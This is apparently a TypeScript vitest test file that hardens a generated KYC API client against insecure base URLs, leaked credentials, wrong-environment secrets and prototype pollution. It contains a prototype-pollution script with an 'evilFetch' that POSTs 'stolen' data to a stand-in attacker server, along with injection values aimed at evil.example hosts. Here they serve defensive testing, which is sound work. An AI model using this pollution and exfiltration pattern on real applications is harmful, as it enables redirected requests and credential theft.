import { type AuthStrategy, all, apiKey, basic, bearerToken, clientCredentials } from "@kyc-clients/auth";
import { type ClientOptions, createClient, isConfigurationError, isTokenError } from "@kyc-clients/core";
import { answer, canary, findCanaries, startFaultServer, stubFetch } from "@kyc-clients/testing";
import { expect, onTestFinished, test } from "vitest";
import { type AcmeClient, createAcmeClient } from "../acme/client.ts";
import { type AcmeServer, api } from "../acme/operations.gen.ts";
import { inChild } from "./child.ts";
import { caught, start } from "./setup.ts";

const auth = bearerToken("made-up-token");

/** What making something throws; it must be a refusal of an option. */
function refusalOf(make: () => unknown): { readonly option: string; readonly message: string } {
  try {
    make();
  } catch (error) {
    if (isConfigurationError(error) && error.code === "invalid_option" && !error.maybeSent && error.attempts === 0) return error;
    throw error;
  }
  throw new Error("it was to be refused, and was not");
}

/** The address that a client with these options calls. */
async function addressOf(options: ClientOptions<AcmeServer>): Promise<string | undefined> {
  const fetch = stubFetch(() => Response.json({ status: "up" }));
  await createAcmeClient({ ...options, fetch }).getHealth();
  return fetch.calls[0]?.url;
}

const plainHosts = [
  "api.acme.example",
  "127.0.0.1.acme.example",
  "localhost.acme.example",
  "0.0.0.0",
  "192.168.1.4",
  "[::2]",
  "127.0.0.1@acme.example",
];

test.each(plainHosts)("F01 http to another machine is refused: %s", (host) => {
  const { option, message } = refusalOf(() => createAcmeClient({ baseUrl: `http://${host}/v1` }));
  expect(option).toBe("baseUrl");
  expect(message).not.toContain(host);
});

test.each(["127.0.0.1:8080", "127.8.9.10", "localhost", "acme.localhost", "[::1]:8080"])(
  "F01 http to this machine is allowed: %s",
  async (host) => {
    expect(await addressOf({ baseUrl: `http://${host}/v1` })).toBe(`http://${host}/v1/health`);
  },
);

test("F01 an explicit option allows http to another machine", async () => {
  expect(await addressOf({ baseUrl: "http://proxy.acme.example/v1/", allowHttp: true })).toBe("http://proxy.acme.example/v1/health");
});

test("F01 a server of the spec that is not https is refused as well", () => {
  const plain = { ...api, servers: { plain: { url: "http://api.acme.example" } } };
  expect(refusalOf(() => createClient(plain, { server: "plain" })).option).toBe("server");
});

test("F01 a call through raw brings no address of its own", async () => {
  const { server, acme } = await start();
  const error = await caught(acme.raw.GET("/health", { baseUrl: "http://api.acme.example" }));
  expect(error).toMatchObject({ name: "ArgumentError", code: "invalid_argument", argument: "baseUrl", attempts: 0, maybeSent: false });
  expect(server.requests).toEqual([]);
});

test.each(["user:SECRET@", "SECRET@", ":SECRET@"])(
  "F02 user info in the base URL is refused, and is not in the message: %s",
  (userInfo) => {
    const secret = canary("userinfo");
    const error = refusalOf(() => createAcmeClient({ baseUrl: `https://${userInfo.replace("SECRET", secret)}api.acme.example/v1` }));
    expect(error.option).toBe("baseUrl");
    expect(findCanaries({ secret }, { error })).toEqual([]);
  },
);

test.each(["?key=SECRET", "#SECRET", "?", "#", "/v1?a#SECRET"])("F03 a query or fragment in the base URL is refused: %s", (end) => {
  const secret = canary("query");
  const error = refusalOf(() => createAcmeClient({ baseUrl: `https://api.acme.example${end.replace("SECRET", secret)}` }));
  expect(error.option).toBe("baseUrl");
  expect(findCanaries({ secret }, { error })).toEqual([]);
});

const noAddresses = [
  "",
  " ",
  "/v1",
  "v1/SECRET",
  "api.acme.example/SECRET",
  "//api.acme.example",
  "file:///SECRET",
  "ftp://SECRET",
  "data:,SECRET",
  "https://",
  null,
  7,
];

test.each(noAddresses)("F04 a base URL that is no absolute http address is refused: %s", (baseUrl) => {
  const secret = canary("address");
  const given = typeof baseUrl === "string" ? baseUrl.replace("SECRET", secret) : baseUrl;
  const error = refusalOf(() => createAcmeClient({ baseUrl: given as string }));
  expect(error.option).toBe("baseUrl");
  expect(findCanaries({ secret }, { error })).toEqual([]);
});

test("F04 neither server nor base URL, and both, are refused", () => {
  expect(refusalOf(() => createAcmeClient({})).option).toBe("server");
  expect(refusalOf(() => createAcmeClient({ server: "sandbox", baseUrl: "https://api.acme.example" })).option).toBe("server");
  expect(refusalOf(() => createAcmeClient(undefined as never)).option).toBe("options");
});

const noRegions = [
  undefined,
  {},
  { region: "" },
  { region: "mars" },
  { region: "EU" },
  { region: "eu.evil.example/" },
  { region: 7 },
  { regoin: "eu" },
];

test.each(noRegions)("F05 a region that is missing or not in its enum is refused, whatever the spec's default: %j", (given) => {
  const error = refusalOf(() => createAcmeClient({ server: "regional", serverVariables: given as Record<string, string> }));
  expect(error.option).toBe("serverVariables.region");
  expect(error.message).not.toMatch(/mars|evil/);
});

const noInstances = [
  undefined,
  {},
  { instance: "" },
  { instance: "a.evil" },
  { instance: "evil.example/" },
  { instance: "a@b" },
  { instance: "a?" },
  { instance: "north\n" },
];

test.each(noInstances)("F05 an instance that is missing or has another form is refused, whatever the spec's default: %j", (given) => {
  const error = refusalOf(() => createAcmeClient({ server: "instance", serverVariables: given as Record<string, string> }));
  expect(error.option).toBe("serverVariables.instance");
  expect(error.message).not.toContain("evil");
});

test("F05 a server that the spec does not name is refused", () => {
  for (const server of ["mars", "", "constructor", "__proto__"])
    expect(refusalOf(() => createAcmeClient({ server: server as AcmeServer })).option).toBe("server");
});

test("F05 variables that fit give the address", async () => {
  expect(await addressOf({ server: "regional", serverVariables: { region: "us" } })).toBe("https://us.acme.example/v1/health");
  expect(await addressOf({ server: "instance", serverVariables: { instance: "north-1" } })).toBe(
    "https://api.north-1.acme.example/v1/health",
  );
  expect(await addressOf({ server: "sandbox" })).toBe("https://sandbox.acme.example/v1/health");
});

const tokenEndpoint = "https://auth.acme.example/token";
const takers: readonly (readonly [option: string, make: (value: string) => AuthStrategy])[] = [
  ["username", (username) => basic({ username, password: "made-up-password" })],
  ["password", (password) => basic({ username: "made-up-user", password })],
  ["token", (token) => bearerToken(token)],
  ["value", (value) => apiKey({ header: "X-API-Key", value })],
  ["clientId", (clientId) => clientCredentials({ tokenEndpoint, clientId, clientSecret: "made-up-secret" })],
  ["clientSecret", (clientSecret) => clientCredentials({ tokenEndpoint, clientId: "made-up-client", clientSecret })],
];
const unusable = [
  undefined,
  null,
  7,
  "",
  " ",
  "\t",
  "\u00a0",
  "SECRET\r",
  "SECRET\n",
  "SEC\r\nRET",
  "SEC\0RET",
  " SECRET",
  "SECRET ",
  "SECRET\t",
  "SECRET\u00a0",
];

test.each(takers)("F06 a credential that is missing, blank, broken or padded is refused by its option: %s", (option, make) => {
  for (const value of unusable) {
    const secret = canary("credential", 20);
    const given = typeof value === "string" ? value.replace("SECRET", secret) : value;
    const error = refusalOf(() => make(given as string));
    expect([value, error.option]).toEqual([value, option]);
    expect(findCanaries({ secret }, { error })).toEqual([]);
  }
});

test.each([
  ["username", basic(() => ({ username: "", password: "made-up-password" }))],
  ["password", basic(async () => ({ username: "made-up-user", password: "padded " }))],
  ["clientSecret", clientCredentials({ tokenEndpoint, clientId: "made-up-client", clientSecret: () => "two\r\nlines" })],
] as const)("F06 what a provider gives is held to the same, before anything is sent: %s", async (option, provided) => {
  const { server, acme } = await start([], { auth: provided });
  for (const call of [() => acme.listApplicants(), () => acme.raw.GET("/applicants")]) {
    const error = await caught(call());
    expect(error).toMatchObject({ name: "ConfigurationError", code: "invalid_option", option, attempts: 0, maybeSent: false });
    expect(error.message).not.toMatch(/padded|lines/);
  }
  expect(server.connections).toBe(0);
});

test("F06 a provider's API key and token are held to the same", async () => {
  const key = await start([], { auth: all(apiKey({ header: "X-API-Key", value: () => "two\r\nlines" }), auth) });
  expect(await caught(key.acme.deleteWorkspace())).toMatchObject({ name: "ConfigurationError", option: "value", attempts: 0 });
  const token = await start([], { auth: bearerToken(async () => "two\r\nlines") });
  const error = await caught(token.acme.listApplicants());
  expect([isTokenError(error), error.code, error.attempts, error.maybeSent]).toEqual([true, "invalid_token_response", 0, false]);
  expect(key.server.connections + token.server.connections).toBe(0);
});

test("F06 an operation that wants a credential is refused where the client has none, or none that fits", async () => {
  for (const given of [undefined, apiKey({ header: "X-Other", value: "made-up-key" })]) {
    const { server, acme } = await start([], { auth: given });
    for (const call of [() => acme.listApplicants(), () => acme.raw.GET("/applicants")]) {
      expect(await caught(call())).toMatchObject({
        name: "ConfigurationError",
        option: "auth",
        operationId: "listApplicants",
        vendor: "acme",
        attempts: 0,
      });
    }
    expect(server.connections).toBe(0);
  }
});

test("F07 a colon in a Basic user name is refused", () => {
  const secret = canary("username");
  const error = refusalOf(() => basic({ username: `${secret}:x`, password: "made-up-password" }));
  expect(error.option).toBe("username");
  expect(findCanaries({ secret }, { error })).toEqual([]);
});

test("F07 a colon in a password, and letters beyond ASCII, are sent as RFC 7617 says", async () => {
  const { server, acme } = await start([answer({ body: { items: [], total_pages: 0 } })], {
    auth: basic({ username: "Zoë", password: "a:b" }),
  });
  await acme.listApplicants();
  expect(server.requests[0]?.headers["authorization"]).toBe(`Basic ${Buffer.from("Zoë:a:b").toString("base64")}`);
});

/** Makes clients in a process that looks like a page, a page's worker, or a server. */
const inBrowser = (scope: string) => `
  ${scope}
  const { all, apiKey, basic, bearerToken, clientCredentials, tokenStrategy } = await import("@kyc-clients/auth");
  const { createAcmeClient } = await import("./test/acme/client.ts");
  const session = tokenStrategy({ scheme: "bearer", key: "session", longLived: false, credentials: () => 1, exchange: async () => ({ accessToken: "t", expiresAt: 1 }) });
  const strategies = {
    basic: basic({ username: "u", password: "made-up-secret" }),
    fixedToken: bearerToken("made-up-secret"),
    apiKey: apiKey({ header: "X-API-Key", value: "made-up-secret" }),
    clientCredentials: clientCredentials({ tokenEndpoint: "https://auth.acme.example/t", clientId: "c", clientSecret: "made-up-secret" }),
    stacked: all(session, apiKey({ header: "X-API-Key", value: "made-up-secret" })),
    session,
    none: undefined,
  };
  const outcome = (options) => {
    try {
      createAcmeClient({ server: "sandbox", ...options });
      return "made";
    } catch (error) {
      return [error.name, error.code, error.option, error.message.includes("made-up")].join(" ");
    }
  };
  const made = Object.entries(strategies).map(([name, auth]) => [name, outcome({ auth })]);
  const allowed = Object.entries(strategies).map(([name, auth]) => [name, outcome({ auth, allowBrowser: true })]);
  const refused = Object.entries(strategies).map(([name, auth]) => [name, outcome({ auth, allowBrowser: "yes" })]);
  console.log(JSON.stringify([made, allowed, refused].map(Object.fromEntries)));
`;
const names = ["basic", "fixedToken", "apiKey", "clientCredentials", "stacked", "session", "none"];
const everywhere = Object.fromEntries(names.map((name) => [name, "made"]));
const onlySessions = Object.fromEntries(
  names.map((name) => [name, /session|none/.test(name) ? "made" : "ConfigurationError invalid_option auth false"]),
);

test.each([
  ["page", "globalThis.window = globalThis; globalThis.document = {};"],
  ["worker", "globalThis.importScripts = () => {}; globalThis.WorkerNavigator = class {};"],
])("F08 a long-lived secret is refused in a %s unless allowBrowser is true", async (_, scope) => {
  expect(await inChild(inBrowser(scope))).toEqual([onlySessions, everywhere, onlySessions]);
});

test("F08 a server with some of a browser's globals is none", async () => {
  expect(await inChild(inBrowser("globalThis.window = globalThis; globalThis.WorkerNavigator = class {};"))).toEqual([
    everywhere,
    everywhere,
    everywhere,
  ]);
});

/** A credential whose shape tells that it is the sandbox's. */
const forSandbox: AuthStrategy = { scheme: "basic", server: "sandbox", authorize: () => {} };

test("F09 a sandbox credential is refused with the production server", () => {
  expect(refusalOf(() => createAcmeClient({ server: "production", auth: forSandbox })).option).toBe("auth");
  expect(
    refusalOf(() => createAcmeClient({ server: "production", auth: all(forSandbox, apiKey({ header: "X-API-Key", value: "made-up" })) }))
      .option,
  ).toBe("auth");
});

test("F09 the same where production is given by its address", () => {
  for (const baseUrl of ["https://api.acme.example/v1", "https://API.acme.example:443/v1/"]) {
    expect(refusalOf(() => createAcmeClient({ baseUrl, auth: forSandbox })).option).toBe("auth");
  }
});

test("F09 it is taken where it belongs, and at addresses that the spec does not name", async () => {
  expect(await addressOf({ server: "sandbox", auth: forSandbox })).toBe("https://sandbox.acme.example/v1/health");
  expect(await addressOf({ baseUrl: "https://sandbox.acme.example/v1", auth: forSandbox })).toBe("https://sandbox.acme.example/v1/health");
  expect(await addressOf({ baseUrl: "http://127.0.0.1:9/alloy", auth: forSandbox })).toBe("http://127.0.0.1:9/alloy/health");
});

test("F10 options are read from own members only", () => {
  const inherited = Object.create({ baseUrl: "https://evil.example", server: "production", allowHttp: true }) as ClientOptions<AcmeServer>;
  expect(refusalOf(() => createAcmeClient(inherited)).option).toBe("server");
  Object.assign(inherited, { baseUrl: "http://api.acme.example" });
  expect(refusalOf(() => createAcmeClient(inherited)).option).toBe("baseUrl");
});

/** Pollutes `Object.prototype` for the whole life of a program that makes a client and calls it, by name and through raw. */
const polluted = `
  const [real, evil] = process.argv.slice(-2);
  const { bearerToken } = await import("@kyc-clients/auth");
  const { createAcmeClient } = await import("./test/acme/client.ts");
  const stolen = [];
  const evilFetch = (...args) => (stolen.push(1), fetch(evil, { method: "POST", body: "stolen" }));
  Object.assign(Object.prototype, {
    baseUrl: evil, fetch: evilFetch, headers: { "x-evil": "1", authorization: "evil" }, server: "production", allowHttp: true, allowHeaderOverride: true,
    bodySerializer: () => "evil", pathSerializer: () => evil, querySerializer: () => "evil=1", middleware: [{ onRequest: () => new Response("evil") }], params: { query: { evil: 1 } },
  });
  const acme = createAcmeClient({ baseUrl: real, auth: bearerToken("made-up-token") });
  const list = await acme.listApplicants({ query: { page: 1 } });
  const created = await acme.createApplicant({ body: { name: { first: "Ada", last: "Lovelace" }, kind: "person" } });
  const raw = await acme.raw.GET("/applicants", { params: { query: { page: 1 } } });
  const rawPost = await acme.raw.POST("/applicants", { body: { name: { first: "Ada", last: "Lovelace" }, kind: "person" } });
  const bare = await acme.raw.GET("/health");
  let refusal;
  try { createAcmeClient({}); } catch (error) { refusal = error.option; }
  let override;
  try { await acme.listApplicants({ header: { authorization: "x" } }); } catch (error) { override = error.argument; }
  console.log(JSON.stringify([[list.status, created.status, raw.response.status, rawPost.response.status, bare.response.status], stolen.length, refusal, override]));
`;

test("F10 a polluted prototype is ignored at creation and in each call", async () => {
  const { server } = await start();
  const evil = await startFaultServer();
  onTestFinished(() => evil.close());
  server.otherwise((request) =>
    answer(request.method === "GET" ? { body: { items: [], total_pages: 0 } } : { status: 201, body: { id: "app_1", status: "pending" } }),
  );
  expect(await inChild(polluted, server.url, evil.url)).toEqual([[200, 201, 200, 201, 200], 0, "server", "header.authorization"]);
  expect(evil.connections).toBe(0);
  expect(server.requests.map(({ method, target }) => `${method} ${target}`)).toEqual([
    "GET /applicants?page=1",
    "POST /applicants",
    "GET /applicants?page=1",
    "POST /applicants",
    "GET /health",
  ]);
  const person = { name: { first: "Ada", last: "Lovelace" }, kind: "person" };
  for (const request of server.requests) {
    expect(request.headers["x-evil"]).toBeUndefined();
    expect(request.headers["authorization"]).toBe(request.path === "/health" ? undefined : "Bearer made-up-token");
    if (request.method === "POST") expect(request.json()).toEqual(person);
  }
});

test("F10 a client that is made while the prototype is polluted calls the address it was given", async () => {
  const { server } = await start([answer({ body: { status: "up" } })]);
  const prototype = Object.prototype as Record<string, unknown>;
  let acme: AcmeClient;
  try {
    Object.assign(prototype, {
      baseUrl: "https://evil.example",
      headers: { "x-evil": "1" },
      fetch: () => Promise.reject(new Error("evil")),
    });
    acme = createAcmeClient({ baseUrl: server.url });
  } finally {
    for (const name of ["baseUrl", "headers", "fetch"]) delete prototype[name];
  }
  expect((await acme.getHealth()).status).toBe(200);
  expect(server.requests[0]?.headers["x-evil"]).toBeUndefined();
});
